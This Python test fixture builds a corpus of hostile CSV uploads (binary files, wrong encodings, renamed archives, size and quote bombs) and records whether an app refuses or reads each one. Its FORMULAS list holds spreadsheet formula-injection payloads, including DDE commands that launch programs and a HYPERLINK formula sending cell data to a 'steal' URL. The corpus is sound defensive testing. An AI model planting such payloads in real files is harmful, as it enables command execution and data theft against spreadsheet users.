"""A corpus of hostile "CSV" uploads, generated at test time (nothing large is committed).

Each :class:`Hostile` is a file a person (or a prankster) might upload: its bytes, and what the app must do with
it: ``refuse`` (an :class:`~ui.uploads.UploadError` saying what to change) or ``read`` (a table, perhaps with
notices). ``make()`` builds the bytes on demand; the big ones are cached per process.
"""

from __future__ import annotations

import codecs
import io
import zipfile
from dataclasses import dataclass
from functools import lru_cache
from typing import Callable

import numpy as np

MB = 1_000_000


@dataclass(frozen=True)
class Hostile:
    name: str
    make: Callable[[], bytes]
    expect: str  # "refuse" or "read"
    says: str = ""  # a piece of the message (refuse) or of a notice (read), lower case
    big: bool = False


def _table(n: int, seed: int = 0, label=("a", "b"), sep=",", decimal=".", newline="\n") -> str:
    """A valid table: x1, x2, x3 and a label column, ``n`` rows."""
    rng = np.random.default_rng(seed)
    X = rng.normal(size=(n, 3))
    labels = np.asarray(label, dtype=object)[rng.integers(0, len(label), n)]
    y = (X[:, 0] + X[:, 1] > 0).astype(int)
    labels = np.where(y == 1, labels, labels[::-1]) if len(label) > 1 else labels
    rows = [sep.join(["x1", "x2", "x3", "label"])]
    for (a, b, c), lab in zip(X, labels):
        rows.append(sep.join(f"{v:.6f}".replace(".", decimal) for v in (a, b, c)) + sep + str(lab))
    return newline.join(rows) + newline


@lru_cache(maxsize=None)
def fifty_megabytes() -> bytes:
    """A valid table of about 50 MB (over every limit: Streamlit's 20 MB upload cap and read_csv's)."""
    block = _table(20_000).encode()
    body = block.split(b"\n", 1)[1]
    copies = 50 * MB // len(body) + 1
    return block + body * copies


@lru_cache(maxsize=None)
def million_columns() -> bytes:
    """A header of 1,000,000 column names and one row of values (about 14 MB)."""
    header = ",".join(f"c{j}" for j in range(1_000_000))
    return (header + "\n" + ",".join(["1"] * 1_000_000) + "\n").encode()


@lru_cache(maxsize=None)
def quoted_field_bomb() -> bytes:
    """Millions of empty quoted fields on one line (``"",""...``): a cheap file, an expensive table."""
    return b'a,b\n' + b'"",' * 3_000_000 + b'""\n'


@lru_cache(maxsize=None)
def long_line() -> bytes:
    """One 15 MB line without a separator."""
    return b"x" * (15 * MB) + b"\n1\n"


@lru_cache(maxsize=None)
def many_rows() -> bytes:
    """100,000 rows of a valid table: exactly the row limit."""
    return _table(100_000).encode()


@lru_cache(maxsize=None)
def too_many_rows() -> bytes:
    return _table(150_000).encode()


@lru_cache(maxsize=None)
def widest_allowed() -> bytes:
    """1,000 columns (the limit) of single digits and a label, just under 20 MB: the biggest table allowed."""
    header = ",".join(f"c{j}" for j in range(999)) + ",label\n"
    rows = "".join(",".join("0123456789"[(i + j) % 10] for j in range(999)) + f",{'ab'[i % 2]}\n"
                   for i in range(100))
    return (header + rows * 99).encode()


@lru_cache(maxsize=None)
def text_heavy() -> bytes:
    """100,000 rows whose cells are long text, just under 20 MB."""
    rng = np.random.default_rng(5)
    words = np.array(["alpha", "beta", "gamma", "delta", "epsilon", "zeta", "theta"])
    rows = ["x1,x2,note,label"]
    for i, (a, b) in enumerate(rng.normal(size=(100_000, 2))):
        rows.append(f"{a:.5f},{b:.5f},{' '.join(words[rng.integers(0, 7, 20)])},{'ab'[i % 2]}")
    return ("\n".join(rows) + "\n").encode()


@lru_cache(maxsize=None)
def newline_bomb() -> bytes:
    """One quoted cell holding 15 million line breaks."""
    return b'a,b\n"' + b"\n" * 15_000_000 + b'",1\n2,3\n'


def _zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("data.csv", _table(50))
    return out.getvalue()


def _png() -> bytes:
    import struct
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    raw = b"".join(b"\x00" + bytes([255, 0, 0] * 4) for _ in range(4))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 4, 4, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b""))


def _random(n: int, seed: int, low: int = 0) -> bytes:
    return bytes(np.random.default_rng(seed).integers(low, 256, n, dtype=np.uint8))


FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://example.com/steal?d="&A1,"click")', "+cmd|' /C notepad'!A0",
            "-2+3", "@SUM(A1:A9)", "=1+1", "\t=1+1", "\r=1+1"]


def _formula_labels() -> bytes:
    """A usable table whose label cells are spreadsheet formulas (and one formula among the numbers)."""
    rng = np.random.default_rng(3)
    rows = ["x1,x2,x3,label"]
    for i in range(60):
        a, b, c = rng.normal(size=3)
        label = FORMULAS[i % 2] if a + b > 0 else FORMULAS[2 + i % 3]
        rows.append(f'{a:.4f},{b:.4f},{c:.4f},"{label.replace(chr(34), chr(34) * 2)}"')
    rows.append('"=1+1",0,0,"=1+1"')
    return ("\n".join(rows) + "\n").encode()


def _mixed_types() -> bytes:
    rows = ["x1,x2,x3,label"]
    rng = np.random.default_rng(4)
    for i in range(40):
        a, b, c = rng.normal(size=3)
        cells = [f"{a:.3f}", "oops" if i % 9 == 0 else f"{b:.3f}", "TRUE" if i % 7 == 0 else f"{c:.3f}"]
        rows.append(",".join(cells) + "," + ("1" if a > 0 else "2.0" if i % 2 else "cat"))
    return ("\n".join(rows) + "\n").encode()


CORPUS = [
    Hostile("empty.csv", lambda: b"", "refuse", "empty"),
    Hostile("one-byte.csv", lambda: b"a", "refuse", "no rows"),
    Hostile("whitespace.csv", lambda: b" \r\n\t\n", "refuse", "empty"),
    Hostile("only-header.csv", lambda: b"x1,x2,label\n", "refuse", "no rows"),
    Hostile("header-with-bom.csv", lambda: codecs.BOM_UTF8 + b"x1,x2,label\r\n", "refuse", "no rows"),
    Hostile("utf16-bom.csv", lambda: _table(40).encode("utf-16"), "read", "utf-16"),
    Hostile("utf16-no-bom.csv", lambda: _table(40).encode("utf-16-le"), "refuse", "utf-16"),
    Hostile("nul-bytes.csv", lambda: b"x1,x2,label\n1,2\x00,a\n3,4,b\n", "refuse", "not a text file"),
    Hostile("binary.csv", lambda: _random(4000, 0), "refuse", "not a text file"),
    Hostile("binary-no-nul.csv", lambda: _random(4000, 1, low=1), "refuse", "not a text file"),
    Hostile("zip-renamed.csv", _zip, "refuse", "zip"),
    Hostile("image.csv", _png, "refuse", "png"),
    Hostile("latin1.csv", lambda: _table(40, label=("café", "thé")).encode("latin-1"), "read", "not utf-8"),
    Hostile("cp1252.csv", lambda: _table(40, label=("\u201cyes\u201d", "no\u2014")).encode("cp1252"), "read",
            "windows-1252"),
    Hostile("windows-newlines.csv", lambda: _table(40, newline="\r\n").encode(), "read"),
    Hostile("semicolon-decimal-comma.csv", lambda: _table(40, sep=";", decimal=",").encode(), "read",
            "decimal commas"),
    Hostile("duplicate-columns.csv", lambda: _table(40).replace("x1,x2,x3", "x,x,x", 1).encode(), "read",
            "appears 3 times"),
    Hostile("all-nan-column.csv", lambda: _table(40).replace("\n", ",\n").replace("label,", "label,empty", 1)
            .encode(), "read"),
    Hostile("one-class.csv", lambda: _table(40, label=("only",)).encode(), "read"),
    Hostile("numeric-vs-text-labels.csv", _mixed_types, "read", "not a number"),
    Hostile("formula-injection.csv", _formula_labels, "read", "formula"),
    Hostile("quoted-newlines.csv", lambda: b'x1,x2,x3,label\n1,2,3,"two\nlines"\n4,5,6,"one"\n7,8,9,"x\r\ny"\n'
            b'1,1,1,"two\nlines"\n2,2,2,one\n3,1,2,one\n', "read"),
    Hostile("nested-quotes.csv", lambda: b'x1,x2,label\n1,2,"' + b'""' * 100_000 + b'"\n3,4,a\n5,6,b\n7,8,a\n'
            b'9,1,b\n2,2,a\n', "read"),
    Hostile("unclosed-quote.csv", lambda: b'x1,x2,label\n1,2,"a\n3,4,b\n', "refuse", "never closed"),
    Hostile("wide-third-row.csv", lambda: b'x1,x2\n1,2\n' + b'"",' * 1_000_000 + b'""\n', "refuse", "line 3 has"),
    Hostile("ragged.csv", lambda: b"x1,x2,label\n1,2,a\n3,4,b,extra,more\n", "refuse", "values but the header"),
    Hostile("many-rows.csv", many_rows, "read", big=True),
    Hostile("too-many-rows.csv", too_many_rows, "refuse", "rows; the limit", big=True),
    Hostile("fifty-megabytes.csv", fifty_megabytes, "refuse", "the limit is 20 mb", big=True),
    Hostile("million-columns.csv", million_columns, "refuse", "columns; the limit is 1,000", big=True),
    Hostile("quoted-field-bomb.csv", quoted_field_bomb, "refuse", "columns on line 2; the limit is 1,000", big=True),
    Hostile("long-line.csv", long_line, "refuse", "one column", big=True),
    Hostile("newline-bomb.csv", newline_bomb, "read", big=True),
    Hostile("widest-allowed.csv", widest_allowed, "read", big=True),
    Hostile("text-heavy.csv", text_heavy, "read", "left out 1 text column", big=True),
]
BY_NAME = {h.name: h for h in CORPUS}
